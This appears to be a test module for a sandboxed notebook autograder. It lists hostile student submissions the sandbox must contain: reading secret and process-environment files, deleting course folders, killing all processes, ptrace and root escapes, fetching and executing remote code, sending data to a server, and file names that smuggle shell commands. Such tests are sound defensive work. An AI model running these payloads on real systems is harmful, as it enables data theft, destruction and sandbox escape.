"""Files, processes and networks that are none of a submission's business; its answers are right."""

from __future__ import annotations

import os
from functools import partial
from typing import Any

from .collection import Case

outside = Case
deadly = partial(Case, plain=False)  # the machine of whoever runs plain nbgrader would suffer


def _link(name: str, target: str) -> Any:
    def place(folder: Any) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).symlink_to(target)

    return place


def _pipe(folder: Any) -> None:
    os.mkfifo(folder / "data.txt")


def _nested(folder: Any) -> None:
    """As deep as an archive can make it."""
    home = os.open(folder, os.O_RDONLY)
    for _ in range(60):
        os.mkdir("n" * 100, dir_fd=home)
        inner = os.open("n" * 100, os.O_RDONLY, dir_fd=home)
        os.close(home)
        home = inner
    os.close(os.open("deep.txt", os.O_CREAT, dir_fd=home))
    os.close(home)


def _names(*names: bytes) -> Any:
    def place(folder: Any) -> None:
        for name in names:
            with open(os.path.join(os.fsencode(folder), name), "wb") as file:
                file.write(b"data")

    return place


def _many(folder: Any) -> None:
    for number in range(300):
        (folder / f"{number}.txt").touch()


CASES = [
    outside(
        "the canary",
        "writes into a file outside",
        "open('@CANARY@', 'w').write('eaten')",
        says="No such file",
    ),
    outside(
        "the canary by shell",
        "writes into a file outside by a shell command",
        "!echo eaten > @CANARY@",
    ),
    outside(
        "a secret file",
        "prints a file outside",
        "print(open('@CANARY@').read())",
        says="No such file",
    ),
    outside(
        "a secret by magic",
        "prints a file outside by a magic",
        "%cat @CANARY@\n%less @CANARY@\n%sx cat @CANARY@",
    ),
    deadly(
        "the environment",
        "prints the environment, and others'",
        "import os, glob\n"
        "print(dict(os.environ))\n"
        "for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try: print(open(path, errors='replace').read())\n    except OSError as no: print(no)",
        says="Permission denied",
    ),
    deadly(
        "the memory of others",
        "reads other processes' memory and files",
        "import glob, os\n"
        "for path in glob.glob('/proc/[0-9]*/root@CANARY@') + glob.glob('/proc/[0-9]*/cwd'):\n"
        "    try: print(open(path).read())\n    except OSError as no: print(no)",
    ),
    deadly(
        "the secret seed",
        "looks for the secret seed",
        "import glob, os\n"
        "for pattern in ('/root/.config/**/seed*', '/home/*/.config/**/seed*', '@COURSE@/../secret/*'):\n"
        "    for path in glob.glob(pattern, recursive=True): print(open(path).read(), '@MARK@ found it')",
    ),
    outside(
        "others' work",
        "overwrites what others handed in",
        "import glob\n"
        "for path in glob.glob('@COURSE@/submitted/*honest*/*/*'): open(path, 'w').close()",
    ),
    outside(
        "the course",
        "deletes the course's files",
        "import shutil\n"
        "for name in ('lessons', 'solutions', 'autograded', 'feedback', 'reports'):\n"
        "    shutil.rmtree(f'@COURSE@/{name}', ignore_errors=True)",
    ),
    outside(
        "a file left in the course",
        "leaves a file in the course folder",
        "try: open('@COURSE@/@MARK@', 'w').close()\nexcept OSError as no: print(no)",
        says="No such file",
    ),
    outside(
        "files left behind",
        "leaves files for the next submission",
        "for folder in ('/tmp', '/dev/shm', '/var/tmp'):\n"
        "    try: open(f'{folder}/@MARK@', 'w').close()\n    except OSError as no: print(no)",
        says="No such file",
    ),
    outside(
        "shared memory left behind",
        "leaves shared memory for the next submission",
        "from multiprocessing import shared_memory, resource_tracker\n"
        "block = shared_memory.SharedMemory('@MARK@', create=True, size=10**6)\n"
        "resource_tracker.unregister(block._name, 'shared_memory')",
    ),
    outside(
        "the home folder",
        "leaves commands that the next shell runs",
        "import os\nfor name in ('.bashrc-@MARK@', '.profile-@MARK@'):\n"
        "    try: open(os.path.expanduser('~/' + name), 'w').write('true')\n"
        "    except OSError as no: print(no)",
    ),
    outside(
        "a daemon",
        "leaves a process that outlives it",
        "import os, subprocess, sys\n"
        "if os.fork() == 0:\n    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', '@MARK@'])\n"
        "    os._exit(0)\nos.wait()",
    ),
    outside(
        "a program left behind",
        "leaves a program in a session of its own",
        "import subprocess, sys\nsubprocess.Popen(\n"
        "    [sys.executable, '-c', 'import time; time.sleep(60)', '@MARK@'], start_new_session=True)",
    ),
    outside(
        "the network",
        "sends what it knows to a server",
        "import socket\nwith socket.create_connection(('127.0.0.1', @PORT@), timeout=2) as line:\n"
        "    line.sendall(b'@MARK@')",
        says="OSError",
    ),
    outside(
        "a download",
        "fetches code from a server and runs it",
        "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:@PORT@/@MARK@', timeout=2).read())",
        says="urlopen error",
    ),
    deadly(
        "the parent", "ends its parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"
    ),
    deadly(
        "everybody",
        "ends every process that it may",
        "import os, signal\nos.kill(-1, signal.SIGKILL)",
    ),
    deadly(
        "its group", "ends its process group", "import os, signal\nos.killpg(0, signal.SIGKILL)"
    ),
    deadly(
        "tracing",
        "takes hold of its parent with ptrace",
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None)\n"
        "print(*[libc.ptrace(16, pid, 0, 0) for pid in (1, os.getppid(), os.getpid() - 1)])",
        says="-1 -1 -1",
    ),
    deadly(
        "the walls",
        "mounts, makes namespaces, becomes root",
        "import ctypes, os\nlibc = ctypes.CDLL(None)\n"
        "print(libc.unshare(0x10000000), libc.mount(b'x', b'/tmp', b'tmpfs', 0, b''), libc.setuid(0),\n"
        "      libc.chroot(b'/tmp'), libc.umount2(b'/proc', 2))",
        says="-1 -1 -1 -1 -1",
    ),
    deadly(
        "more rights",
        "lifts its own limits",
        "import os, resource\n"
        "for kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):\n"
        "    try: resource.setrlimit(kind, (-1, -1))\n    except ValueError as no: print(no)",
        says="not allowed to raise maximum limit",
    ),
    deadly(
        "installed modules",
        "writes into NumPy and into what runs it",
        "import nnlib\n"
        "for module in (np, nnlib):\n"
        "    try: open(module.__file__, 'a').write('left = 1')\n    except OSError as no: print(no)",
        says="[Errno ",
    ),
    outside(
        "closed descriptors",
        "closes everything that is open",
        "import os\nos.closerange(3, 4096)",
        says="process",
    ),
    outside(
        "a link beside",
        "hands in a link to a file outside",
        "print(open('data.txt').read())",
        place=_link("data.txt", "../canary"),
        says="No such file",
    ),
    deadly(
        "a linked folder",
        "hands in a link to the course folder",
        "import glob\nprint(glob.glob('all/*'))",
        place=_link("all", "../../.."),
        says="[]",
    ),
    outside("a pipe beside", "hands in a pipe that nobody writes to", place=_pipe),
    outside("nested folders", "hands in folders sixty deep", place=_nested),
    outside(
        "odd file names",
        "hands in files whose names hold line ends, bytes and commands",
        place=_names(
            b"a\nb.txt",
            b"\xff\xfe.txt",
            b"$(touch @MARK@).txt",
            b"-rf",
            b"\x1b[31m.txt",
            b"'; x.txt",
        ),
    ),
    outside(
        "too many files",
        "hands in three hundred files",
        place=_many,
        earns=(),
        refused=True,
        says="more than 200 files",
        plain=True,
    ),
    outside(
        "a link in a folder",
        "hands in a link to a file outside, in a folder of its own",
        place=_link("more/forward_propagation.ipynb", "../../canary"),
    ),
]
